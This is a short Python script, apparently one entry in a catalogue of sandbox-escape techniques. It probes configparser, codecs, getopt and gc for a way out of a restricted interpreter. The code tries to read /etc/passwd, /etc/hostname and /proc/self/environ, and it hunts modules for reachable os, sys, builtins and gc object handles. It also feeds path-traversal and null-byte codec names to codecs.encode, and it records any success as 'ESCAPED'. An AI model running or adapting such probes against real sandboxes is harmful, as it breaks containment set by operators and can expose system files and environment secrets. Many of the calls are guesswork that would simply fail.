# technique: files, modules and codecs behind configparser, getopt, codecs and gc
# source: Lib/configparser.py, Lib/codecs.py, Lib/encodings/__init__.py
# goal: text of a file, or a module
# impact: read
import codecs
import configparser
import gc
import getopt

found = None
parser = configparser.ConfigParser(allow_no_value=True, delimiters=('\0',), strict=False)
for path in ('/etc/passwd', '/etc/hostname', '/proc/self/environ'):
    try:
        if parser.read(path) or parser.sections():
            found = path
    except Exception:
        pass
    for name in ('open', 'lookup', 'getreader', 'StreamReader', 'EncodedFile', 'register', 'builtins', 'sys'):
        try:
            member = getattr(codecs, name)
            found = member(path)
        except Exception:
            pass
for module in (configparser, getopt, gc, codecs):
    for name in ('os', 'io', 'sys', 're', 'itertools', 'warnings', 'functools', 'builtins', 'get_objects', 'get_referrers', 'gettext', 'ChainMap'):
        if hasattr(module, name):
            found = (module, name)
for name in ('../os', 'encodings.os', '__init__', 'aliases', '..os', 'pickle', 'os\0', 'zlib_codec/../../os'):
    try:
        found = codecs.encode(b'x', name)
    except Exception:
        pass
if found:
    ESCAPED = found
